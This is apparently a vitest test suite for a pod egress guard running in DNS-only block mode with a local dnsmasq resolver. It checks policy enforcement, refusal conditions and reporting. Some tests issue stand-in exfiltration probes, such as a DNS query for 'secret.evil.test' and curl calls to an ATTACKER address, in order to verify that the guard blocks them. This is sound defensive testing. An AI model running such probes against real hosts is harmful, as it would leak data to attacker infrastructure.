/** Block mode where the resolver is the pod's own, and the guard that is a resolver and nothing else. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";

import { ATTACKER, RESOLVER } from "../support/internet/addresses.ts";
import { createInternet, type Internet, type Machine } from "../support/internet/internet.ts";
import { requires } from "../support/requires.ts";
import { asUser, shell, watchInVain, watchPod } from "./watched-pod.ts";

const { internet: needed, dnsmasq } = requires;
const ALLOWED = { ipv4: "198.51.100.10", ipv6: "2001:db8:1::10" } as const;
const EGRESS = { allow: ["github.test:80"] };
/** Users of their own: the resolver's, the job's and the guard's. */
const RESOLVERS_USER = 4801;
const USER = 4802;

describe.skipIf(!needed.available)(`a pod with a resolver at 127.0.0.1${needed.note}`, () => {
  let internet: Internet;
  let pod: Machine;
  beforeAll(async () => {
    internet = await createInternet();
    await internet.site("github.test", { ...ALLOWED, ports: { 80: "http" } });
    await internet.site("evil.test", { ipv4: "198.51.100.66", ports: { 80: "http" } });
  });
  afterAll(() => internet[Symbol.asyncDispose]());
  beforeEach(async () => {
    pod = await internet.pod({ ownProcesses: true, resolver: ["127.0.0.1"] });
    await shell(pod, "sysctl -qw net.ipv4.ip_unprivileged_port_start=0");
    return () => pod[Symbol.asyncDispose]();
  });

  test.skipIf(!dnsmasq.available)(
    `of its own is asked, and may ask others on port 53 alone${dnsmasq.note}`,
    async () => {
      const [program = "", ...rest] = asUser(RESOLVERS_USER, []);
      const own = pod.start([program, ...rest, ...DNSMASQ]);
      const { stdout } = await shell(
        pod,
        `until dig +short +tries=1 +time=1 github.test A; do :; done`,
      );
      expect(stdout).toContain(ALLOWED.ipv4);
      await internet.forget();
      const guard = await watchPod(pod, { egress: EGRESS });

      expect(guard.ready.enforcement.reason).toContain(
        `asks others past the guard, and so may all that runs as its user ${RESOLVERS_USER}, on port 53`,
      );
      expect((await shell(pod, "curl -sS http://github.test/x")).stdout).toBe(
        "github.test GET /x\n",
      );
      expect((await shell(pod, "dig +short secret.evil.test")).stdout).toBe("");
      const asResolver = asUser(RESOLVERS_USER, []).join(" ");
      expect(await shell(pod, `${asResolver} curl -s -m 4 http://${ATTACKER.ipv4}/`)).toMatchObject(
        { status: 7 },
      );
      const asJob = asUser(USER, []).join(" ");
      await shell(pod, `${asJob} dig +tries=1 +time=2 @${RESOLVER.ipv4} secret.evil.test`);
      const names = (await internet.dns.questions()).map(({ name }) => name);
      expect(new Set(names)).toEqual(new Set(["github.test"]));
      expect(await guard.stop()).toMatchObject({ status: 0 });
      own.kill("SIGKILL");
    },
  );

  test.skipIf(!dnsmasq.available)(
    `that runs as root is refused, with the way out${dnsmasq.note}`,
    async () => {
      const own = pod.start([...DNSMASQ, "--user=root"]);
      await shell(pod, `until dig +short +tries=1 +time=1 github.test A; do :; done`);
      const ended = await watchInVain(pod, { egress: EGRESS });

      expect(ended.status).toBe(69);
      expect(ended.stderr).toMatch(
        /127\.0\.0\.1:53 runs in this network namespace as root.*--resolver/,
      );
      const guard = await watchPod(pod, { egress: EGRESS, flags: ["--resolver", RESOLVER.ipv4] });
      expect((await shell(pod, "curl -sS http://github.test/x")).stdout).toBe(
        "github.test GET /x\n",
      );
      expect(await guard.stop()).toMatchObject({ status: 0 });
      own.kill("SIGKILL");
    },
  );

  describe("that is the guard, without any capability", () => {
    const through = asUser(USER, []);
    const unprivileged = { through, userId: USER };

    test("holds names against policy, and says that it holds nothing else", async () => {
      const flags = ["--enforcement", "dns", "--resolver", RESOLVER.ipv4];
      const guard = await watchPod(pod, { ...unprivileged, egress: EGRESS, flags });
      await internet.forget();

      expect(guard.ready.mode).toMatchObject({
        requested: "block",
        effective: "block (names only)",
      });
      expect(guard.ready.enforcement).toMatchObject({ mechanism: "dns" });
      expect((await shell(pod, "curl -sS http://github.test/x")).stdout).toBe(
        "github.test GET /x\n",
      );
      expect(await shell(pod, "curl -sS http://evil.test/x")).toMatchObject({ status: 6 });
      expect((await shell(pod, "dig +short +tcp evil.test")).stdout).toBe("");
      expect(await shell(pod, `curl -s -o /dev/null http://${ATTACKER.ipv4}/`)).toMatchObject({
        status: 0,
      });
      const names = (await internet.dns.questions()).map(({ name }) => name);
      expect(new Set(names)).toEqual(new Set(["github.test"]));
      expect(await guard.stop()).toMatchObject({ status: 0 });
      const { mode, dnsQueries } = guard.report();
      expect(mode.effective).toBe("block (names only)");
      expect(dnsQueries.map(({ name, verdict }) => `${name} ${verdict}`)).toContain(
        "evil.test blocked",
      );
    });

    test.each([
      {
        what: "enforcement is required",
        flags: ["--enforcement", "dns", "--resolver", RESOLVER.ipv4, "--require", "enforcement"],
        says: "--require enforcement: connections cannot be refused here",
      },
      {
        what: "it would ask itself",
        flags: ["--enforcement", "dns"],
        says: "the configured resolver 127.0.0.1 is where the guard itself is to listen",
      },
      {
        what: "packets are to be refused, which it may not",
        flags: ["--resolver", RESOLVER.ipv4],
        says: "capability NET_ADMIN",
      },
    ])("refuses to start where $what", async ({ flags, says }) => {
      const ended = await watchInVain(pod, { ...unprivileged, egress: EGRESS, flags });

      expect(ended.status).toBe(69);
      expect(ended.stderr).toContain(says);
      expect((await shell(pod, "nft list tables")).stdout).toBe("");
    });
  });
});

const DNSMASQ = [
  "dnsmasq",
  "--keep-in-foreground",
  "--conf-file=/dev/null",
  "--pid-file",
  "--no-resolv",
  "--no-hosts",
  "--cache-size=0",
  "--listen-address=127.0.0.1",
  "--bind-interfaces",
  `--server=${RESOLVER.ipv4}`,
];
